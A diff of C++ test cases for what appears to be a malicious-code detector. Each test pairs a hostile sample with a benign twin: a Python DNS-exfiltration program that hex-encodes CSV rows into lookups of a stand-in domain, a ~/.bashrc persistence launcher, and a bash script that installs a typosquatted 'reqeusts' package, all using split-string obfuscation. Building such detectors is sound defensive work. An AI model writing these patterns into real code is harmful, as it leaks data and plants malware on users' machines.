@@ -332,5 +332,106 @@ TEST(HundredAndFiftyFifthRoundClasses, NestedDataclassesBecomeTheirFields) {
   for (const auto& c : cases) check(c);
 }
 
+// A callback that is an instance of a class with __call__ (a Resolver object
+// given to run_in_executor) runs that method: hex of a CSV's rows in names
+// it resolves is DNS exfiltration. Twin: the same resolver timing a fixed
+// list of host names.
+TEST(HundredAndFiftyFifthRoundClasses, ACallableInstanceIsCalledThroughCall) {
+  const char* program =
+      "import asyncio, binascii, socket\n"
+      "class Resolver:\n"
+      "    def __init__(self):\n"
+      "        self._fn = getattr(socket, 'gethost' + 'byname')\n"
+      "    def __call__(self, name):\n"
+      "        try:\n"
+      "            self._fn(name)\n"
+      "        except OSError:\n"
+      "            pass\n"
+      "def names():\n"
+      "    for line in open('contracts.csv'):\n"
+      "        yield binascii.hexlify(line.encode()).decode()[:60] + '.t.hopmetrics.example'\n"
+      "async def main():\n"
+      "    loop = asyncio.get_running_loop()\n"
+      "    for n in names():\n"
+      "        await loop.run_in_executor(None, Resolver(), n)\n"
+      "asyncio.run(main())\n";
+  std::string fixed = program;
+  fixed.replace(fixed.find("    for line in open('contracts.csv'):\n"), 125,
+                "    for host in ('db.hopyard.example', 'mq.hopyard.example'):\n        yield host\n");
+  const Case cases[] = {
+      {"a CSV's rows hex-encoded into names a callable object resolves", B, program, "COVERT-CHANNEL-EXFILTRATION"},
+      {"the same resolver timing fixed host names", L, fixed.c_str()},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// field(default_factory=Path.home): a library function as the factory makes
+// what it returns (the home directory), as the code's own factories did: a
+// launcher appended to ~/.bashrc through cfg.home is persistence. Twin: a log
+// file under the same home.
+TEST(HundredAndFiftyFifthRoundClasses, ALibraryDefaultFactoryMakesItsValue) {
+  const Case cases[] = {
+      {"a launcher appended to the rc file under a factory-made home", B,
+       "from dataclasses import dataclass, field\n"
+       "from pathlib import Path\n"
+       "@dataclass\n"
+       "class Config:\n"
+       "    home: Path = field(default_factory=Path.home)\n"
+       "cfg = Config()\n"
+       "with (cfg.home / ('.bash' 'rc')).open('a') as fh:\n"
+       "    fh.write('\\n(pgrep -f agent.py || nohup python3 ~/.trellis/agent.py &)\\n')\n",
+       "PERSISTENCE"},
+      {"a log line under the same home", L,
+       "from dataclasses import dataclass, field\n"
+       "from pathlib import Path\n"
+       "@dataclass\n"
+       "class Config:\n"
+       "    home: Path = field(default_factory=Path.home)\n"
+       "cfg = Config()\n"
+       "(cfg.home / '.trellis').mkdir(exist_ok=True)\n"
+       "with (cfg.home / '.trellis' / 'agent.log').open('a') as fh:\n"
+       "    fh.write('bootstrap done\\n')\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// Known lines through `sort -u` (and uniq, tac) stay known, reordered; and an
+// if prints what its branch prints: package lists from functions a table
+// names, in a loop whose body checks the group first. Twins: the genuine
+// names in the same shape.
+TEST(HundredAndFiftyFifthRoundClasses, SortedLinesAndIfBranchesKeepTheirText) {
+  const char* program = R"sh(#!/bin/bash
+core_pkgs() { printf '%s\n' flask "re""qeusts" jinja2; }
+report_pkgs() { printf '%s\n' reportlab tabulate; }
+declare -A GROUPS_FN=( [core]=core_pkgs [reports]=report_pkgs )
+collect() {
+    local g
+    for g in "$@"; do
+        if [ -n "${GROUPS_FN[$g]:-}" ]; then
+            "${GROUPS_FN[$g]}"
+        else
+            echo "unknown group $g" >&2
+        fi
+    done | sort -u
+}
+install_list() {
+    local -a pkgs=()
+    local p
+    while IFS= read -r p; do
+        [ -n "$p" ] && pkgs+=("$p")
+    done
+    python3 -m pip install --quiet "${pkgs[@]}"
+}
+collect core reports | install_list
+)sh";
+  std::string genuine = program;
+  genuine.replace(genuine.find("\"re\"\"qeusts\""), 12, "requests");
+  const Case cases[] = {
+      {"a typosquat in sorted lines of functions an if calls", B, program, "KNOWN-MALICIOUS-PACKAGE", Sh},
+      {"the genuine names in the same shape", M, genuine.c_str(), "INSTALLS-PACKAGES", Sh},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
